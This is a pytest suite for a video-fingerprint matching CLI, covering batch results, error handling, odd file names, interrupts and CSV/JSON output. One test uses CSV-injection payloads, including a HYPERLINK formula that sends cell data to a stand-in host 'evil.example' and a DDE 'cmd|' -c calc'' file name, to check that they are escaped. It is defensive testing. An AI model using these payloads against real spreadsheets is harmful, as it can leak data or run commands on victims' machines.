"""fp match as a batch: every suspect answered, evidence per suspect, safe CSV, Ctrl-C, --hashes."""
import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import av
import cv2
import pytest
from click.testing import CliRunner

from fp.cli.cmd_match import csv_cell, match_csv
from fp.cli.main import cli
from fp.index.matcher import Match, MatchResult

from ..conftest import clip, write_video

FP = [sys.executable, "-m", "fp.cli.main"]


@pytest.fixture(scope="module")
def runner():
    return CliRunner()


def _lines(stdout: str) -> tuple[list[dict], dict]:
    """(one object per suspect, the summary) from `fp match --json` output; every line is versioned."""
    rows = [json.loads(line) for line in stdout.splitlines()]
    assert rows and all(row["schema_version"] == 1 for row in rows)
    assert "summary" in rows[-1] and not any("summary" in row for row in rows[:-1])
    return rows[:-1], rows[-1]["summary"]


@pytest.fixture
def world_dir():
    """A folder any user may enter and write (pytest's tmp_path is private to its user)."""
    path = Path(tempfile.mkdtemp(prefix="fp-test-"))
    path.chmod(0o777)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _unprivileged(args: list[str]) -> subprocess.CompletedProcess:
    """Run fp so that 0-mode files are unreadable: as root, without the capabilities that let
    root read any file (the same interpreter and packages stay usable)."""
    prefix = []
    if os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        if setpriv is None:
            pytest.skip("running as root without setpriv: cannot make an unreadable file")
        prefix = [setpriv, "--bounding-set=-dac_override,-dac_read_search"]
    env = {**os.environ, "MPLCONFIGDIR": tempfile.gettempdir()}
    return subprocess.run(prefix + FP + args, capture_output=True, text=True, timeout=120, env=env)


def test_unreadable_file_gets_its_line_and_the_batch_goes_on(session_library, world_dir):
    lib = shutil.copytree(session_library, world_dir / "lib")
    for p in [Path(lib), *Path(lib).iterdir()]:
        p.chmod(0o777 if p.is_dir() else 0o666)
    secret = world_dir / "secret.mp4"
    shutil.copy(clip("frog.mp4"), secret)
    secret.chmod(0)
    out = _unprivileged(["match", str(secret), str(clip("friday.mp4")), "--library", str(lib), "--json", "-q"])
    assert out.returncode == 1, out.stderr
    rows, summary = _lines(out.stdout)
    assert [(r["query"], r["verdict"]) for r in rows] == [(str(secret), "error"), (str(clip("friday.mp4")), "match")]
    assert "permission denied" in rows[0]["error"]
    assert (summary["suspects"], summary["error"], summary["match"]) == (2, 1, 1)
    assert f"fp: {secret}: permission denied" in out.stderr


def test_unwritable_evidence_folder_fails_only_the_matches(runner, session_library, tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    r = runner.invoke(cli, ["match", str(clip("friday.mp4")), str(clip("frog.mp4")), "--library", str(session_library),
                            "--evidence", str(blocker / "evidence"), "--json", "-q"])
    assert r.exit_code == 1, r.output
    rows, summary = _lines(r.stdout)
    assert rows[0]["verdict"] == "error" and "cannot create evidence directory" in rows[0]["error"]
    assert rows[0]["matches"][0]["title"] == "friday" and rows[1]["verdict"] == "no_match"
    assert summary["with_matches"] == 1


def test_a_file_name_that_is_not_utf8_comes_back_exact_in_json(session_library, tmp_path):
    """Upload names are bytes: the JSON `query` must lead back to the file (not U+FFFD)."""
    name = os.fsdecode(b"copy_\xff\xfe.mp4")
    shutil.copy(clip("friday.mp4"), tmp_path / name)
    done = subprocess.run(FP + ["match", "--library", str(session_library), "--json", str(tmp_path / name)],
                          capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr
    row = json.loads(done.stdout.decode("utf-8").splitlines()[0])
    assert os.fsencode(row["query"]) == os.fsencode(str(tmp_path / name))
    assert row["verdict"] == "match" and row["matches"][0]["title"] == "friday"


def test_the_table_keeps_one_line_per_suspect_whatever_its_name(session_library, tmp_path):
    odd = [tmp_path / "two\nlines.mp4", tmp_path / os.fsdecode(b"bytes_\xff.mp4")]
    for path in odd:
        shutil.copy(clip("friday.mp4"), path)
    done = subprocess.run(FP + ["match", "--library", str(session_library)] + [str(p) for p in odd],
                          capture_output=True, timeout=120)
    lines = done.stdout.decode("utf-8").splitlines()
    assert done.returncode == 0 and len(lines) == 2 + len(odd), lines  # header, rule, one row each
    assert "two\\nlines.mp4" in lines[2] and "bytes_\\xff.mp4" in lines[3]
    assert all(" match " in line for line in lines[2:])


@pytest.mark.parametrize("stdout_encoding", [None, "utf-8", "ascii"], ids=["locale", "strict-utf8", "ascii"])
def test_a_file_name_that_is_not_utf8_comes_back_exact_in_csv(session_library, tmp_path, stdout_encoding):
    """The CSV cell holds the name's own bytes whatever stdout's encoding: a strict UTF-8 stdout
    (an installed UTF-8 locale) used to end in a UnicodeEncodeError traceback, ASCII gave '?'."""
    name = os.fsdecode(b"copy_\xff\xfe.mp4")
    shutil.copy(clip("friday.mp4"), tmp_path / name)
    env = {k: v for k, v in os.environ.items() if k != "PYTHONIOENCODING"}
    if stdout_encoding:
        env["PYTHONIOENCODING"] = stdout_encoding
    done = subprocess.run(FP + ["match", "--library", str(session_library), "--csv", "-q", str(tmp_path / name)],
                          capture_output=True, timeout=120, env=env)
    assert done.returncode == 0 and not done.stderr, done.stderr
    assert done.stdout.replace(os.fsencode(name), b"").decode("utf-8")  # UTF-8 but for the name's bytes
    row = next(csv.DictReader(io.StringIO(done.stdout.decode("utf-8", "surrogateescape"), newline="")))
    assert os.fsencode(row["query"]) == os.fsencode(str(tmp_path / name))
    assert row["verdict"] == "match" and row["title"] == "friday"


def test_fail_on_match_exits_3_even_when_another_suspect_failed(runner, session_library, tmp_path):
    r = runner.invoke(cli, ["match", str(tmp_path / "gone.mp4"), str(clip("friday.mp4")), "--library", str(session_library),
                            "--fail-on-match", "-q"])
    assert r.exit_code == 3, r.output
    assert "gone.mp4: no such file" in r.stderr and "friday" in r.stdout


def test_evidence_is_unique_per_suspect_and_named_in_json_and_csv(runner, session_library, tmp_path):
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        shutil.copy(clip("friday.mp4"), tmp_path / folder / "clip.mp4")
    suspects = [str(tmp_path / "a" / "clip.mp4"), str(tmp_path / "b" / "clip.mp4")]
    evidence = tmp_path / "evidence"
    r = runner.invoke(cli, ["match", *suspects, "--library", str(session_library), "--evidence", str(evidence), "--json", "-q"])
    assert r.exit_code == 0, r.output
    rows, _ = _lines(r.stdout)
    written = [row["matches"][0]["evidence"] for row in rows]
    assert len(set(written)) == 2 and all(Path(p).parent == evidence and Path(p).exists() for p in written)
    assert sorted(p.name for p in evidence.iterdir()) == sorted(Path(p).name for p in written)

    # again in two worker processes, as CSV: the same files, named in the evidence column
    r = runner.invoke(cli, ["match", *suspects, "--library", str(session_library), "--evidence", str(evidence), "--csv", "-q",
                            "--workers", "2"])
    table = list(csv.DictReader(io.StringIO(r.stdout)))
    assert [row["evidence"] for row in table] == written
    assert [row["seen_as"] for row in table] == [row["matches"][0]["seen_as"] for row in rows] == ["picture"] * 2
    assert sorted(p.name for p in evidence.iterdir()) == sorted(Path(p).name for p in written)


def test_csv_cells_never_run_as_formulas_and_json_stays_exact(runner, tmp_path, monkeypatch):
    title = '=HYPERLINK("http://evil.example/?"&A1;"click")'
    lib = str(tmp_path / "lib")
    assert runner.invoke(cli, ["index", str(clip("friday.mp4")), "--library", lib, "--title", title, "-q"]).exit_code == 0
    monkeypatch.chdir(tmp_path)
    name = "@SUM(1+1)*cmd|' -c calc'!A0.mp4"
    shutil.copy(clip("friday.mp4"), tmp_path / name)
    listings = tmp_path / "listings.csv"
    with open(listings, "w", newline="") as fh:
        csv.writer(fh).writerows([["path", "claimed_title", "seller_id"], [name, "+1-1", "\tshop"]])
    args = ["match", name, "--library", lib, "--listings", str(listings), "-q"]

    r = runner.invoke(cli, args + ["--csv"])
    assert r.exit_code == 0, r.output
    row = next(csv.DictReader(io.StringIO(r.stdout)))
    assert (row["query"], row["title"], row["claimed_title"]) == ("'" + name, "'" + title, "'+1-1")
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in csv.reader(io.StringIO(r.stdout)) for cell in line)
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1;""click"")"' in r.stdout  # quoted: the ; starts no cell

    rows, _ = _lines(runner.invoke(cli, args + ["--json"]).stdout)
    assert (rows[0]["query"], rows[0]["matches"][0]["title"], rows[0]["claimed_title"]) == (name, title, "+1-1")
    assert rows[0]["listing"]["seller_id"] == "\tshop"


def test_owasp_examples_are_escaped_as_owasp_shows():
    # https://owasp.org/www-community/attacks/CSV_Injection: =1+2";=1+2 -> "'=1+2"";=1+2"
    assert csv_cell('=1+2";=1+2') == "'=1+2\";=1+2"
    out = match_csv([MatchResult('=1+2";=1+2', "error", error="=1+2'\" ;,=1+2")])
    assert out.splitlines()[1].startswith('"\'=1+2"";=1+2","error","\'=1+2\'"" ;,=1+2",""')
    for safe in ("movie.mp4", "", "'quoted", "1e-06", "0.5"):
        assert csv_cell(safe) == safe
    for start in "=+-@\t\r":
        assert csv_cell(start + "x") == "'" + start + "x"


def test_ctrl_c_exits_130_with_one_line_and_a_summary(session_library):
    suspects = [str(clip("friday.mp4"))] + [str(clip("bbb_first60s.mp4"))] * 4
    proc = subprocess.Popen(FP + ["match", *suspects, "--library", str(session_library), "--json", "-q", "--workers", "2"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        first = proc.stdout.readline()  # friday is done; the long suspects are in the workers
        time.sleep(0.3)
        os.killpg(proc.pid, signal.SIGINT)  # as a terminal's Ctrl-C: the whole process group
        rest, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert proc.returncode == 130
    assert err == "fp: interrupted\n"  # one line, no worker traceback
    rows, summary = _lines(first + rest)
    assert summary["interrupted"] is True and summary["suspects"] == len(rows) < len(suspects)
    assert rows[0]["verdict"] == "match"
    deadline = time.time() + 10
    while time.time() < deadline:  # no worker is left behind
        try:
            os.killpg(proc.pid, 0)
        except ProcessLookupError:
            break
        time.sleep(0.1)
    else:
        pytest.fail("worker processes survived the interrupt")


@pytest.fixture(scope="module")
def reaction_video(tmp_path_factory):
    """8 s of bbb as a picture-in-picture over frog (not in the library): only its inset matches."""
    background = []
    with av.open(str(clip("frog.mp4"))) as c:
        for f in c.decode(video=0):
            background.append(f.to_ndarray(format="rgb24"))
            if len(background) == 100:
                break
    frames = []
    with av.open(str(clip("bbb_first60s.mp4"))) as c:
        for f in c.decode(video=0):
            if f.time >= 28.0:
                break
            if f.time >= 20.0:
                canvas = cv2.resize(background[len(frames) % len(background)], (640, 426)).copy()
                canvas[150:378, 200:604] = cv2.resize(f.to_ndarray(format="rgb24"), (404, 228))
                frames.append(canvas)
    return write_video(tmp_path_factory.mktemp("pip") / "reaction.mp4", frames, fps=24, codec="mpeg4")


def test_fingerprint_json_matches_like_the_video(runner, session_library, reaction_video, tmp_path):
    r = runner.invoke(cli, ["fingerprint", str(reaction_video), "--json"])
    assert r.exit_code == 0, r.output
    doc = json.loads(r.stdout)
    assert any(v >= 100 for v in doc["views"])  # inset rows, as matching hashes them
    hashes = tmp_path / "reaction.json"
    hashes.write_text(r.stdout)
    r = runner.invoke(cli, ["match", str(reaction_video), "--hashes", str(hashes), "--library", str(session_library), "--json", "-q"])
    assert r.exit_code == 0, r.output
    (video, from_hashes), summary = _lines(r.stdout)
    assert from_hashes["query"] == str(hashes) and summary["match"] == 2
    assert video["matches"][0]["title"] == "bbb_first60s"
    for key in ("verdict", "matches", "duration", "frames"):
        assert from_hashes[key] == video[key], key


def test_bad_hash_file_gets_its_line(runner, session_library, tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text('{"format": "fp-fingerprint", "version": 99}')
    r = runner.invoke(cli, ["match", str(clip("friday.mp4")), "--hashes", str(bad), "--library", str(session_library), "--json", "-q"])
    assert r.exit_code == 1
    (good, failed), _ = _lines(r.stdout)
    assert good["verdict"] == "match" and failed["verdict"] == "error" and "format version 99" in failed["error"]


def test_no_suspect_is_a_usage_error(runner, session_library):
    r = runner.invoke(cli, ["match", "--library", str(session_library)])
    assert r.exit_code == 2 and "PATH or --hashes" in r.output


def test_listings_rows_that_match_no_suspect_or_repeat_are_reported(runner, session_library, tmp_path):
    shutil.copy(clip("friday.mp4"), tmp_path / "upload.mp4")
    (tmp_path / "listings.csv").write_text(
        "path,claimed_title,seller_id\nupload.mp4,travel vlog,s1\nghost.mp4,nothing,s2\nupload.mp4,travel vlog 2,s1\n")
    result = runner.invoke(cli, ["match", str(tmp_path / "upload.mp4"), "--library", str(session_library),
                                 "--listings", str(tmp_path / "listings.csv"), "--json"])
    assert result.exit_code == 0, result.output
    rows, summary = _lines(result.stdout)
    assert rows[0]["claimed_title"] == "travel vlog 2"
    problems = summary["listing_problems"]
    assert [p["line"] for p in problems] == [2, 3]
    assert "listings.csv:3: no file matches" in result.stderr


def test_search_zooms_flag_finds_a_deep_crop_the_default_does_not(runner, session_library, tmp_path):
    from ..fingerprint.test_turned import crop
    from ..index.test_matcher_scenes import _frames

    frames = _frames("cockatoo.mp4", 4.0, 10.0, fps=30, edit=lambda img: crop(img, 0.3, 0.1, 0.1))
    suspect = write_video(tmp_path / "deep_crop.mp4", frames, fps=30)
    verdicts = {}
    for flags in ([], ["--search-zooms"]):
        r = runner.invoke(cli, ["match", str(suspect), "--library", str(session_library), "--json", "-q", *flags])
        assert r.exit_code == 0, r.output
        (result,), _ = _lines(r.stdout)
        verdicts[bool(flags)] = (result["verdict"], [m["title"] for m in result["matches"]])
    assert verdicts == {False: ("no_match", []), True: ("match", ["cockatoo"])}
    r = runner.invoke(cli, ["match", str(suspect), "--library", str(session_library), "-q", "--search-zooms"])
    assert "picture zoomed out" in r.stdout, r.stdout  # the table says what proved it


def test_the_inner_check_finds_a_deep_crop_of_a_still_shot_unless_turned_off(runner, session_library, tmp_path):
    from ..fingerprint.test_turned import crop
    from ..index.test_matcher_scenes import _frames

    frames = _frames("flower.mp4", 0.0, 4.9, fps=30, edit=lambda img: crop(img, 0.27, 0.06, 0.68))
    suspect = write_video(tmp_path / "still_crop.mp4", frames, fps=30)
    r = runner.invoke(cli, ["match", str(suspect), "--library", str(session_library), "--json", "-q"])
    assert r.exit_code == 0, r.output
    (result,), _ = _lines(r.stdout)
    assert result["verdict"] == "match" and [m["title"] for m in result["matches"]] == ["flower"]
    assert any("inner-view check" in w for w in result["warnings"])
    r = runner.invoke(cli, ["match", str(suspect), "--library", str(session_library), "--json", "-q", "--no-inner-check"])
    (result,), _ = _lines(r.stdout)
    assert r.exit_code == 0 and result["verdict"] == "no_match", r.output
